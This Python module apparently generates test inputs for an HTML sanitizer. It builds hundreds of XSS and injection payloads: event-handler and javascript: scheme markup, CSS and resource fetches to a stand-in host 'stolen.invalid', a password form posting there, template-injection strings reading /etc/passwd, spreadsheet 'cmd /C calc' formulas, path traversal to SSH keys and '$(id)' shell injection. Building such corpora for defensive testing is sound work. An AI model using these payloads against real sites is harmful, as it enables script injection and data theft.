"""Hostile markup by system: where a text may stand × what may act there × how it may hide. All of it our own.

Each family crosses a list of places with a list of means, so that what is missing in one shows. ``{run}`` runs and
tells its number, ``{away}`` is another host that must never be asked.
"""

from collections.abc import Iterator
from itertools import product

AWAY = "http://stolen.invalid"

BREAKOUTS = (
    *('"', "'", '">', "'>", "`>", '" ', "' ", "--&gt;-->", "--!>", "]]>", "?>", "%>", "*/", '\\">', "\u2028"),
    *("</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</xmp>", "</iframe>", "</noembed>"),
    *("</template>", "</select>", "</option>", "</svg>", "</math>", "</table>", "</button>", "</pre>", "</details>"),
)
ACTORS = (
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<script>{run}</script>",
)
CARRIERS = {
    "a": "onclick onmouseover onfocusin onauxclick oncontextmenu ondblclick ondragstart onpointerdown onpointerenter",
    "body": "onload onpageshow onhashchange onpopstate onmessage onbeforeprint onresize onscroll onunload onstorage",
    "button": "onmousedown onmouseup onmouseenter onkeydown onfocus onbeforetoggle oncommand ontoggle",
    "details open": "ontoggle onanimationend",
    "dialog open": "oncancel onclose onscrollend",
    "form": "onsubmit onreset oninvalid onformdata oninput onchange",
    "iframe": "onload",
    "img src=x": "onerror onload onloadstart",
    "input autofocus": "onfocus onblur onsearch onselect onpaste oncopy oncut onbeforeinput",
    "marquee": "onstart onbounce onfinish",
    "object data=x": "onerror onload",
    "p style=animation:x": "onanimationstart onanimationiteration ontransitionend onwebkitanimationstart",
    "svg": "onload onbegin onrepeat onend",
    "track src=x": "onerror oncuechange",
    "video src=x": "onerror oncanplay onloadeddata ontimeupdate onplay onsuspend onencrypted onwaiting",
    "audio src=x": "onerror ondurationchange onprogress",
    "textarea autofocus": "onfocus onselectionchange oncompositionstart",
    "x tabindex=1 id=x": "onfocus oncopy onwheel ontouchstart ongotpointercapture oncontentvisibilityautostatechange",
}
SCHEMES = (
    *("javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", "\x01javascript:{run}"),
    *("&#106;avascript:{run}", "&#x6A;avascript:{run}", "&#0000106avascript:{run}", "javascript&colon;{run}"),
    *("java&Tab;script:{run}", "java&NewLine;script:{run}", "&NonBreakingSpace;javascript:{run}", " javascript:{run}"),
    *("javascript://%0a{run}", "javascript:/*x*/{run}", "vbscript:{run}", "livescript:{run}", "feed:javascript:{run}"),
    *("view-source:javascript:{run}", "blob:javascript:{run}", "data:text/html,<script>{run}</script>"),
    *("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={run}>"),
    *("DATA:text/html;charset=utf-7,+ADw-script+AD4-{run}+ADw-/script+AD4-", "\u3000javascript:{run}"),
)
SINKS = (
    '<iframe src="{url}"></iframe>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<form action="{url}"><button>go</button></form>',
    '<button formaction="{url}">go</button>',
    '<svg><a xlink:href="{url}"><text y=9>go</text></a></svg>',
    '<svg><a><animate attributeName=href values="{url}"></animate><text y=9>go</text></a></svg>',
    '<svg><a><set attributeName=xlink:href to="{url}"></set><text y=9>go</text></a></svg>',
    '<math href="{url}">go</math>',
    '<map name=m><area shape=default href="{url}"></map><img usemap=#m>',
    '<base href="{url}"><a href="x">go</a>',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<link rel=stylesheet href="{url}">',
    '<input type=image src="{url}" formaction="{url}">',
    '<blockquote cite="{url}"><q cite="{url}">x</q></blockquote>',
    '<img src="{url}" longdesc="{url}">',
)
NAMESPACES = (
    ("<svg><desc>", "</desc></svg>"),
    ("<svg><title>", "</title></svg>"),
    ("<svg><foreignObject>", "</foreignObject></svg>"),
    ("<math><mtext>", "</mtext></math>"),
    ("<math><annotation-xml encoding=text/html>", "</annotation-xml></math>"),
    ("<form><math><mtext></form><form><mglyph>", "</mglyph></form></math>"),
    ("<table><caption><svg>", "</svg></caption></table>"),
    ("<select><template>", "</template></select>"),
)
RAW = ("style", "noscript", "xmp", "textarea", "title", "noembed", "iframe", "script", "p id='")
STYLES = (
    *("background:url({away}/b)", "background-image:image-set('{away}/i' 1x)", "list-style:url({away}/l)"),
    *("cursor:url({away}/c),auto", "content:url({away}/d)", "border-image:url({away}/e)", "mask:url({away}/m)"),
    *("filter:url({away}/f#x)", "clip-path:url({away}/p)", "src:url({away}/s)", "b\\61 ckground:u\\72l({away}/u)"),
    *("background:URL( '{away}/q' )", "/**/background/**/:/**/url({away}/r)", "--x:url({away}/v);background:var(--x)"),
    *("width:expression({run})", "-moz-binding:url({away}/x.xml#x)", "behavior:url({away}/h.htc)"),
    *("position:fixed;inset:0;z-index:99999;background:red", "shape-outside:url({away}/so)"),
)
SHEETS = (
    *("@import '{away}/a.css';", "@import url({away}/b.css) screen;", "@\\69mport '{away}/c.css';"),
    *("@font-face{font-family:x;src:url({away}/f)}*{font-family:x}", "@namespace url({away}/n);"),
    *("*{background:url({away}/star)}", "a[href^=a]{background:url({away}/leak)}", "@keyframes x{to{left:0}}"),
)
ASKING = (
    '<img src="{away}/1">',
    '<img srcset="{away}/2 1x">',
    "<img src='{away}/3?",
    '<picture><source srcset="{away}/4"><img></picture>',
    '<video poster="{away}/5"></video>',
    '<video src="{away}/6" autoplay></video>',
    '<audio src="{away}/7" autoplay></audio>',
    '<video><source src="{away}/8"></video>',
    '<video><track default src="{away}/9"></video>',
    '<input type=image src="{away}/10">',
    '<body background="{away}/11">',
    '<table background="{away}/12"><td background="{away}/13">x</table>',
    '<iframe src="{away}/14"></iframe>',
    '<frameset><frame src="{away}/15"></frameset>',
    '<embed src="{away}/16">',
    '<object data="{away}/17"></object>',
    '<object><param name=src value="{away}/18"></object>',
    '<applet code="{away}/19"></applet>',
    '<bgsound src="{away}/20">',
    '<script src="{away}/21"></script>',
    '<script type=module>import "{away}/22"</script>',
    '<script type=importmap>{{"imports":{{"x":"{away}/23"}}}}</script>',
    '<svg><image href="{away}/24"/></svg>',
    '<svg><image xlink:href="{away}/25"/></svg>',
    '<svg><use href="{away}/26#x"/></svg>',
    '<svg><feImage href="{away}/27"/></svg>',
    '<svg><script href="{away}/28"/></svg>',
    '<svg><style>@import "{away}/29"</style></svg>',
    '<?xml-stylesheet href="{away}/30"?>',
    '<!DOCTYPE x SYSTEM "{away}/31">',
    '<a href="{away}/32" ping="{away}/33">x</a>',
    '<meta http-equiv=refresh content="0; {away}/34">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<base href="{away}/"><img src=35>',
    "<base target='",
    '<form action="{away}/36"><input name=password autofocus></form>',
    '<button formaction="{away}/37" form=reply>Send</button>',
    '<portal src="{away}/38"></portal>',
    '<fencedframe src="{away}/39"></fencedframe>',
    '<model src="{away}/40"></model>',
    '<html manifest="{away}/41">',
    '<img src="//stolen.invalid/42">',
    '<img src="\\\\stolen.invalid/43">',
    '<img src="/\\/stolen.invalid/44">',
    '<img src="HTTP:/stolen.invalid/45">',
    '<img src="http:&#9;//stolen.invalid/46">',
    '<img src="ftp://stolen.invalid/47">',
    '<img lowsrc="{away}/48" dynsrc="{away}/49">',
    '<img attributionsrc="{away}/50">',
    '<div style="background:url({away}/51">unclosed',
    '<plaintext><img src="{away}/52">',
    '<noscript><img src="{away}/53"></noscript>',
    '<template shadowrootmode=open><img src="{away}/54"></template>',
    '<!--[if true]><img src="{away}/55"><![endif]-->',
)
RELATIONS = (
    *("stylesheet", "prefetch", "preload as=image", "dns-prefetch", "preconnect", "modulepreload", "icon", "manifest"),
    *("prerender", "import", "apple-touch-icon", "alternate stylesheet", "pingback", "search"),
)
TEMPLATES = (
    *("{{7*7}}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{% include '/etc/passwd' %}"),
    *("{% raw %}{{x}}{% endraw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%{7*7}", "@(7*7)", "{{requester.name}}"),
    *("{{constructor.constructor('{run}')()}}", "<div ng-app ng-csp>{{$eval('{run}')}}</div>", "{{={run}}}"),
    *('<div x-data x-init="{run}">', "<div v-html=\"'<img src=x onerror={run}>'\">", '<div data-bind="html:{run}">'),
    *(
        '<div hx-get="{away}/x" hx-trigger=load>',
        '<div hx-on:load="{run}">',
        '<div data-hx-post="/sign-out" hx-trigger=load>',
    ),
    *(
        '<a data-preview href="{away}/p">',
        '<a data-key=s data-copy-link=x href="javascript:{run}">',
        "%(name)s %s %d {0}",
    ),
    *('<div hx-ext="{away}/e.js" hx-swap-oob="true" id=flashes>', '<div popover id=keys data-filter="#flashes">'),
)
CLOBBERS = (
    *("<form id=item><input name=attributes>", "<img name=querySelector>", "<form name=body><input name=firstChild>"),
    *(
        "<a id=htmx><a id=htmx name=config href='{away}'>",
        "<input form=timer name=csrf_token value=x>",
        "<p id=palette>",
    ),
    *("<iframe name=top></iframe>", "<object id=location></object>", "<embed name=getElementById>", "<div id=preview>"),
    *(
        "<a target=_top href='{away}/top'>x</a>",
        "<a id=conversation data-newest>x</a>",
        "<label for=reply-body>x</label>",
    ),
)
SIGNS = (
    *("\u202egnp.exe", "\u2066\u202dadmin\u2069", "ad\u200bmin", "\ufeffadmin", "a\u0300" * 40, "\u00ad" * 30 + "x"),
    *("\uff1cscript\uff1e{run}\uff1c/script\uff1e", "\u02bcx\u02bc", "\ud7ff\ue000", "\U000e0041\U000e0042", "\u3164"),
    *("%3Cscript%3E{run}%3C/script%3E", "%253Cscript%253E", "&lt;script&gt;{run}&lt;/script&gt;", "&amp;lt;b&amp;gt;"),
    *(
        "+ADw-script+AD4-{run}+ADw-/script+AD4-",
        "\\u003cscript\\u003e{run}",
        "\\x3cscript\\x3e{run}",
        "<scr\u0131pt>{run}",
    ),
    *(
        "=?utf-8?q?=3Cscript=3E{run}=3C/script=3E?=",
        "x%0d%0aBcc: a@stolen.invalid",
        "x =?utf-8?q?=0D=0ABcc:?= a@stolen.invalid",
    ),
    *("../../etc/passwd", "..\\..\\boot.ini", "con.aux", "~/.ssh/id_rsa", "a;b|c`id`$(id)", "file:///etc/passwd"),
)
FORMULAS = (
    *(
        "=1+1|'cmd'!A1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|'x'!A0",
        '=HYPERLINK("{away}","x")',
    ),
    *(
        '=IMPORTXML("{away}","//a")',
        '=WEBSERVICE("{away}")',
        "\t=1+1",
        ";=1+1",
        '"=1+1',
        "=DDE(1)",
        "%0A=1+1",
        "\uff1d1+1",
    ),
)
MARKDOWN = (
    *("[x](javascript:{run})", "![x]({away}/md.png)", "<javascript:{run}>", "[x]: {away} '<img src=x onerror={run}>'"),
    *("[a](x 'onerror={run}')", "```html\n<script>{run}</script>\n```", "https://x.example/'onmouseover={run}//"),
    *('https://x.example/"><img src=x onerror={run}>', "mailto:a@x.example?body=<script>{run}</script>", "@<b>bob</b>"),
)
ODDITIES = (
    *(
        "<script\x0b>{run}</script>",
        "<script/x>{run}</script>",
        "<script src=data:,{run}></script>",
        "<<script>{run}//<</script>",
    ),
    *(
        "<img/src=x/onerror={run}>",
        "<img src=x onerror\n=\n{run}>",
        "<img src=x oNeRrOr={run}>",
        "<img src=x onerror=`{run}`>",
    ),
    *(
        "<svg><script>{run}</script>",
        "<svg><script>&#97;lert(1)</script>",
        "<svg/onload={run}//",
        "<svg><style><img src=x onerror={run}>",
    ),
    *(
        "<img src=x\x0conerror={run}>",
        "<IMG SRC=x ONERROR={run}>",
        "<input type=hidden oncontentvisibilityautostatechange={run} style=content-visibility:auto>",
    ),
    *(
        "<iframe srcdoc='<script>parent.{run}</script>'>",
        "<iframe srcdoc=&lt;script&gt;{run}&lt;/script&gt;>",
        "<isindex action=javascript:{run}>",
    ),
    *(
        "<x/ onclick={run}>click",
        "<a href=x onclick={run}",
        "<img src=x onerror={run}",
        "</p onclick={run}>",
        "<!-- --!><img src=x onerror={run}>",
    ),
    *(
        "<comment><img src=x onerror={run}></comment>",
        "<listing>&lt;img src=x onerror={run}&gt;</listing>",
        "<image src=x onerror={run}>",
    ),
)


def payloads() -> list[str]:
    """Return all of it, each once, numbered where it runs."""
    found = list(dict.fromkeys(_templates()))
    return [
        text.replace("{run}", f"top.ran={number};alert({number})").replace("{away}", AWAY)
        for number, text in enumerate(found)
    ]


def _templates() -> Iterator[str]:
    yield from (f"{out}{actor}" for out, actor in product(BREAKOUTS, ACTORS))
    yield from (f"<{tag} {name}={{run}}>" for tag, names in CARRIERS.items() for name in names.split())
    yield from (f'<a href="{scheme}">go</a>' for scheme in SCHEMES)
    yield from (sink.replace("{url}", scheme) for sink, scheme in product(SINKS, (SCHEMES[0], SCHEMES[9], SCHEMES[20])))
    for (before, after), raw in product(NAMESPACES, RAW):
        tag = raw.partition(" ")[0]
        yield f"{before}<{raw}><!--</{tag}><img src=x onerror={{run}}>-->{after}"
    yield from (f'<p style="{style}">x</p>' for style in STYLES)
    yield from (f"<style>{sheet}</style>" for sheet in (*SHEETS, *(f"*{{{style}}}" for style in STYLES[:6])))
    yield from ASKING
    yield from (
        f"<link rel={relation.replace(' stylesheet', '')} href={{away}}/{at}>" for at, relation in enumerate(RELATIONS)
    )
    yield from (*TEMPLATES, *CLOBBERS, *SIGNS, *FORMULAS, *MARKDOWN, *ODDITIES)
